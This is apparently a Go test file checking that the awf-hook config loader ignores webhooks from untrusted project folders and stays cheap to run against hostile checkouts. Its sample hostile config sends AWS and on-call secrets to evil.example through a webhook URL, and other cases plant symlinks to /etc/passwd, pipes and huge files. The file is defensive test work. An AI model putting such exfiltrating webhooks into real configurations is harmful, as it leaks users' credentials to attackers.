package config_test

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/awf-project/awf-hook/engine/config"
	"github.com/awf-project/awf-hook/engine/config/trust"
)

// checkout is a project's folder, which is the test's working directory, and the user's own settings beside it.
type checkout struct {
	t    *testing.T
	home string
	env  map[string]string
	read []string // the variables that were looked up
}

// stranger is the settings file of a hostile project.
const stranger = `webhooks:
  - name: oncall
    url: https://evil.example/${AWS_SECRET_ACCESS_KEY}
    headers: {X: "${ONCALL_SECRET}"}
  - {name: audit, enabled: false}
  - {name: third, url: "https://evil.example/", transform: {wasm: redact.wasm}}
`

func newCheckout(t *testing.T, files map[string]string) *checkout {
	c := &checkout{t: t, home: t.TempDir()}
	c.env = map[string]string{"HOME": c.home, "AWS_SECRET_ACCESS_KEY": "aws-key", "ONCALL_SECRET": "oncall-secret"}
	put(t, filepath.Join(c.home, ".config/awf/settings.yaml"),
		"webhooks: [{name: oncall, url: 'https://pager.example/'}, {name: audit, url: 'https://audit.example/'}]")
	t.Chdir(t.TempDir())
	for name, text := range files {
		put(t, name, text)
	}
	return c
}

func (c *checkout) search() config.Search {
	return config.Search{Env: func(name string) (string, bool) {
		if name == "AWS_SECRET_ACCESS_KEY" || name == "ONCALL_SECRET" {
			c.read = append(c.read, name)
		}
		value, set := c.env[name]
		return value, set
	}}
}

func (c *checkout) load() *config.Config {
	c.t.Helper()
	cfg, err := c.search().Load()
	if err != nil {
		c.t.Fatal(err)
	}
	return cfg
}

// trust does what awf-hook trust does.
func (c *checkout) trust() *config.Project {
	c.t.Helper()
	p, err := c.search().Project()
	if err != nil || p.Err != nil {
		c.t.Fatal(err, p.Err)
	}
	if err := trust.In(c.search().StateFolder()).Trust(p.Folder, p.Claims); err != nil {
		c.t.Fatal(err)
	}
	return p
}

// hosts returns the names and hosts of the active webhooks.
func hosts(cfg *config.Config) string {
	var list []string
	for _, w := range cfg.Active() {
		list = append(list, w.Name+"="+w.URL.Host())
	}
	return strings.Join(list, " ")
}

const ownHosts = "oncall=pager.example audit=audit.example"

func TestUntrustedProjectDoesNothing(t *testing.T) {
	c := newCheckout(t, map[string]string{
		".awf/settings.yaml":    stranger,
		".awf/redact.wasm":      "no module",
		".awf/workflows/a.yaml": "name: deploy\n" + stranger,
	})
	cfg := c.load()
	if got := hosts(cfg); got != ownHosts {
		t.Errorf("active webhooks %s, want %s", got, ownHosts)
	}
	if warning := cfg.Project.Warning(); cfg.Project.State != trust.Untrusted || !strings.Contains(warning, "run awf-hook trust") {
		t.Errorf("the project is %s with the warning %q, want it untrusted, and how to trust it", cfg.Project.State, warning)
	}
	found := cfg.Workflows.Lookup("deploy")
	if found == nil || found.Err != nil || len(found.Own) > 0 || len(found.Webhooks) != 2 || found.Webhooks[0].URL.Host() != "pager.example" {
		t.Errorf("the definition has %+v, want the user's own webhooks alone", found)
	}
	if again := cfg.Project.Warning(); again != "" {
		t.Errorf("a second warning: %s", again)
	}
	if len(c.read) > 0 {
		t.Errorf("the variables %v were looked up, want none", c.read)
	}
	for _, file := range cfg.Files {
		if strings.Contains(file, ".awf") && !strings.Contains(file, c.home) {
			t.Errorf("the project's file %s is among the files that were read", file)
		}
	}
}

// An untrusted definition is said if it may have webhooks, also where they are beyond what is read of a file.
func TestUntrustedDefinitionIsSaid(t *testing.T) {
	filler := "# " + strings.Repeat("x", 300<<10) + "\n"
	for name, tt := range map[string]struct {
		text string
		said bool
	}{
		"none":           {"name: deploy\n", false},
		"at the end":     {"name: deploy\nstates: {}\nwebhooks: []\n", true},
		"beyond the end": {"name: deploy\n" + filler + "webhooks: [{url: 'https://evil.example/'}]\n", true},
	} {
		t.Run(name, func(t *testing.T) {
			c := newCheckout(t, map[string]string{".awf/workflows/a.yaml": tt.text})
			found := c.load().Workflows.Lookup("deploy")
			if said := found.Err != nil && strings.Contains(found.Err.Error(), "is not trusted"); said != tt.said {
				t.Errorf("said that it is not trusted: %t (%v), want %t", said, found.Err, tt.said)
			}
		})
	}
}

// Inspecting an untrusted project expands no variable.
func TestInspectionOfUntrustedProjectExpandsNothing(t *testing.T) {
	c := newCheckout(t, map[string]string{".awf/settings.yaml": stranger, ".awf/workflows/a.yaml": "name: deploy\n" + stranger})
	s := c.search()
	s.Inspect = true
	cfg, err := s.Load()
	if err != nil {
		t.Fatal(err)
	}
	cfg.Workflows.All()
	if _, err := s.LoadFile(".awf/settings.yaml"); err != nil {
		t.Fatal(err)
	}
	if len(c.read) > 0 {
		t.Errorf("the variables %v were looked up, want none", c.read)
	}
	if w := cfg.Webhooks[0]; w.Origin != config.ProjectFile || w.URL.Host() != "" {
		t.Errorf("%+v, want the project's webhook without its host", w)
	}
}

func TestClaimsSayWhatAProjectWouldDo(t *testing.T) {
	c := newCheckout(t, map[string]string{
		".awf/settings.yaml": stranger + `  - url: "https://${USER_NAME}:${PASS}@${HOST:-https://a.example/x}/${PATH_PART}?k=${KEY}"
    secret: &s "$${NOT} ${S}"
  - {url: https://b.example/, secret: *s, name: "${N}"}
tests: [{event: {event: workflow_end}}]`,
		".awf/redact.wasm": "no module",
	})
	p, err := c.search().Project()
	if err != nil || p.Err != nil {
		t.Fatal(err, p)
	}
	var got []string
	for _, claim := range p.Claims {
		got = append(got, claim.String())
	}
	want := []string{
		"takes the place of your webhook oncall; sends to https://evil.example; reads $AWS_SECRET_ACCESS_KEY, $ONCALL_SECRET",
		"switches off your webhook audit",
		"sends to https://evil.example; runs redact.wasm sha256:f52d04fd7e10b17aed3b05f3dba4b0ac2c8b2ee2ee84a2da9bb39ae1c1d5a7ed",
		"sends to https://${HOST:-https://a.example}; reads $HOST, $KEY, $PASS, $PATH_PART, $S, $USER_NAME",
		"takes the place of your webhook ${N}; sends to https://b.example; reads $N, $S",
	}
	for i := range want {
		if i >= len(got) || got[i] != want[i] && !strings.Contains(want[i], "sha256") {
			t.Errorf("claim %d:\n%s\nwant\n%s", i, got, want[i])
		}
	}
	if !strings.Contains(got[2], "runs redact.wasm sha256:") {
		t.Errorf("claim 2: %s, want the digest of the module", got[2])
	}
	if len(c.read) > 0 {
		t.Errorf("the variables %v were looked up, want none", c.read)
	}
}

func TestTrustedProjectHoldsUntilItDoesSomethingNew(t *testing.T) {
	wasm := "one module"
	files := map[string]string{".awf/settings.yaml": stranger, ".awf/redact.wasm": wasm,
		".awf/workflows/a.yaml": "name: deploy\nwebhooks: [{url: 'https://own.example/'}]"}
	c := newCheckout(t, files)
	c.trust()
	const trusted = "oncall=evil.example third=evil.example"
	for _, step := range []struct {
		name, file, text string
		holds            bool // the settings' webhooks are active
		own              int  // webhooks of the definition
		change           string
	}{
		{"as it was shown", ".awf/settings.yaml", stranger, true, 1, ""},
		{"a comment, a filter and an event", ".awf/settings.yaml",
			"# new\n" + strings.Replace(stranger, "name: oncall", "name: oncall\n    events: [step_*]\n    filter: 'true'", 1), true, 1, ""},
		{"less", ".awf/settings.yaml", strings.Replace(stranger, "  - {name: audit, enabled: false}\n", "", 1), true, 1, ""},
		{"a host", ".awf/settings.yaml", strings.Replace(stranger, "evil.example/$", "worse.example/$", 1), false, 1, "https://worse.example"},
		{"a port", ".awf/settings.yaml", strings.Replace(stranger, "evil.example/$", "evil.example:8443/$", 1), false, 1,
			"https://evil.example:8443"},
		{"a path", ".awf/settings.yaml", strings.Replace(stranger, "evil.example/\"", "evil.example/other\"", 1), false, 1,
			"another address at https://evil.example"},
		{"a variable", ".awf/settings.yaml", strings.Replace(stranger, "ONCALL_SECRET", "HOME", 1), false, 1, "$HOME"},
		{"a shown variable elsewhere", ".awf/settings.yaml", strings.Replace(stranger, "evil.example/\"", "evil.example/${ONCALL_SECRET}\"", 1),
			false, 1, "$ONCALL_SECRET"},
		{"an override", ".awf/settings.yaml", strings.Replace(stranger, "name: third", "name: audit2", 1), true, 1, ""},
		{"back", ".awf/settings.yaml", stranger, true, 1, ""},
		{"a module", ".awf/redact.wasm", "another module", false, 1, "redact.wasm sha256:"},
		{"the module back", ".awf/redact.wasm", wasm, true, 1, ""},
		{"a definition's host", ".awf/workflows/a.yaml", "name: deploy\nwebhooks: [{url: 'https://new.example/'}]", true, 0, ""},
	} {
		put(t, step.file, step.text)
		cfg := c.load()
		got := hosts(cfg)
		if holds := got != ownHosts; holds != step.holds {
			t.Errorf("%s: active webhooks %s, the project's among them = %v, want %v", step.name, got, holds, step.holds)
		}
		warning := cfg.Project.Warning()
		if (warning != "") == step.holds || !strings.Contains(warning, step.change) {
			t.Errorf("%s: warning %q, want it to show %s", step.name, warning, step.change)
		}
		if own := len(cfg.Workflows.Lookup("deploy").Own); own != step.own {
			t.Errorf("%s: the definition has %d webhooks, want %d", step.name, own, step.own)
		}
		if step.name == "back" && got != trusted {
			t.Errorf("%s: active webhooks %s, want %s", step.name, got, trusted)
		}
	}
}

// A trusted project's module is pinned by its digest, so that no other module can take its place after the user saw it.
func TestTrustedModuleIsPinned(t *testing.T) {
	c := newCheckout(t, map[string]string{".awf/settings.yaml": stranger, ".awf/redact.wasm": "one"})
	c.trust()
	cfg := c.load()
	if m := cfg.Webhooks[len(cfg.Webhooks)-1].Transform[0].Wasm; len(m.SHA256) != 64 {
		t.Errorf("SHA256 = %q, want the module's digest", m.SHA256)
	}
}

// A checkout's file names its modules itself: one that a variable names would not be among the claims, and so could change unseen.
func TestCheckoutNamesItsModules(t *testing.T) {
	for _, step := range []string{`wasm: "${M:-redact.wasm}"`, `js: "${M}"`, `wasm: "a$${M}${M}"`} {
		text := "webhooks:\n  - {name: a, url: 'https://a.example/', transform: {" + step + "}}\n"
		for place, refused := range map[string]bool{".awf/settings.yaml": true, ".awf/workflows/a.yaml": true, "own.yaml": false} {
			newCheckout(t, map[string]string{place: text})
			_, err := config.Search{Env: config.NoEnv}.LoadFile(place)
			if strings.Contains(fmt.Sprint(err), "cannot read a variable here") != refused {
				t.Errorf("%s in %s: %v, refused should be %v", step, place, err, refused)
			}
		}
	}
}

func TestContinuousIntegrationTrusts(t *testing.T) {
	for name, trusts := range map[string]func(c *checkout, s *config.Search){
		"variable": func(c *checkout, _ *config.Search) {
			folder, _ := os.Getwd()
			c.env["AWF_HOOK_TRUST"] = "/nowhere:" + folder
		},
		"flag": func(_ *checkout, s *config.Search) { s.TrustProject = true },
	} {
		c := newCheckout(t, map[string]string{".awf/settings.yaml": stranger})
		s := c.search()
		trusts(c, &s)
		cfg, err := s.Load()
		if err != nil || cfg.Project.State != trust.Trusted || cfg.Project.Warning() != "" ||
			!strings.Contains(hosts(cfg), "oncall=evil.example") {
			t.Errorf("%s: active webhooks %v, %v; want the project's", name, hosts(cfg), err)
		}
	}
	c := newCheckout(t, map[string]string{".awf/settings.yaml": stranger})
	c.env["AWF_HOOK_TRUST"] = "/:" + filepath.Dir(c.home) + "::"
	if got := hosts(c.load()); got != ownHosts {
		t.Errorf("AWF_HOOK_TRUST of a folder above the project's: active webhooks %s, want %s", got, ownHosts)
	}
}

// A mistake in a project's file stops only the project's webhooks.
func TestMistakesOfAProjectAreItsOwn(t *testing.T) {
	for _, text := range []string{"x: [", "webhooks: 1", "\xff", "", "webhooks: [{url: 'https://a.example/'}, {url: nonsense}]"} {
		c := newCheckout(t, map[string]string{".awf/settings.yaml": text})
		s := c.search()
		s.TrustProject = true
		cfg, err := s.Load()
		if err != nil || hosts(cfg) != ownHosts {
			t.Errorf("%q: active webhooks %s, %v; want %s", text, hosts(cfg), err, ownHosts)
		}
		if cfg.Project.Err == nil {
			t.Errorf("%q: no mistake found in the project", text)
		}
		s.Inspect = true
		if _, err := s.Load(); err == nil {
			t.Errorf("%q: no mistake found by an inspection", text)
		}
	}
}

// Whatever a checkout contains, the user's own webhooks are active at once.
func TestHostileCheckoutCostsLittle(t *testing.T) {
	for name, make := range map[string]func(folder string) error{
		"pipe":         func(f string) error { return syscall.Mkfifo(f+"/settings.yaml", 0o644) },
		"device":       func(f string) error { return os.Symlink("/dev/zero", f+"/settings.yaml") },
		"stdin":        func(f string) error { return os.Symlink("/dev/stdin", f+"/settings.yaml") },
		"loop":         func(f string) error { return os.Symlink("settings.yaml", f+"/settings.yaml") },
		"folder":       func(f string) error { return os.Mkdir(f+"/settings.yaml", 0o755) },
		"link outside": func(f string) error { return os.Symlink("/etc/passwd", f+"/settings.yaml") },
		"100 MB":       func(f string) error { return sparse(f+"/settings.yaml", 100<<20) },
		"nested": func(f string) error {
			return os.WriteFile(f+"/settings.yaml", []byte(strings.Repeat("[", 1<<20)), 0o644)
		},
		"workflows loop":  func(f string) error { return os.Symlink("workflows", f+"/workflows") },
		"workflows pipe":  func(f string) error { return syscall.Mkfifo(f+"/workflows", 0o644) },
		"definition pipe": func(f string) error { return syscall.Mkfifo(folder(f+"/workflows")+"/a.yaml", 0o644) },
		"200 of 4 MiB": func(f string) error {
			for i := range 200 {
				if err := sparse(fmt.Sprintf("%s/%d.yaml", folder(f+"/workflows"), i), 4<<20); err != nil {
					return err
				}
			}
			return nil
		},
		"10,000 definitions": func(f string) error {
			for i := range 10_000 {
				if err := os.WriteFile(fmt.Sprintf("%s/%d.yaml", folder(f+"/workflows"), i), []byte("name: n\nwebhooks: []\n"), 0o644); err != nil {
					return err
				}
			}
			return nil
		},
	} {
		c := newCheckout(t, nil)
		if err := make(folder(".awf")); err != nil {
			t.Fatal(err)
		}
		before, began, processor := heap(), time.Now(), processorTime()
		cfg := c.load()
		cfg.Workflows.Lookup("n")
		if got := hosts(cfg); got != ownHosts {
			t.Errorf("%s: active webhooks %s, want %s", name, got, ownHosts)
		}
		took, worked, grown := time.Since(began), processorTime()-processor, heap()-before
		limit := time.Second
		if raceEnabled {
			limit *= 4
		}
		if took > 10*time.Second || worked > limit || grown > 64<<20 { // it waits for nothing, but a busy machine may take seconds
			t.Errorf("%s: took %v, %v of processor time and %d MiB", name, took, worked, grown>>20)
		}
		if wrong := cfg.Project.Err; wrong != nil && len(wrong.Error()) > 500 {
			t.Errorf("%s: an error of %d bytes, want a short one: %s", name, len(wrong.Error()), wrong)
		} else if wrong != nil && strings.Contains(wrong.Error(), "root:") {
			t.Errorf("%s: the error shows text of another file: %s", name, wrong)
		}
	}
}

func folder(path string) string {
	_ = os.MkdirAll(path, 0o755)
	return path
}

func sparse(path string, size int64) error {
	if err := os.WriteFile(path, nil, 0o644); err != nil {
		return err
	}
	return os.Truncate(path, size)
}

// heap returns how many bytes of memory the program has from the system.
func heap() uint64 {
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.Sys
}
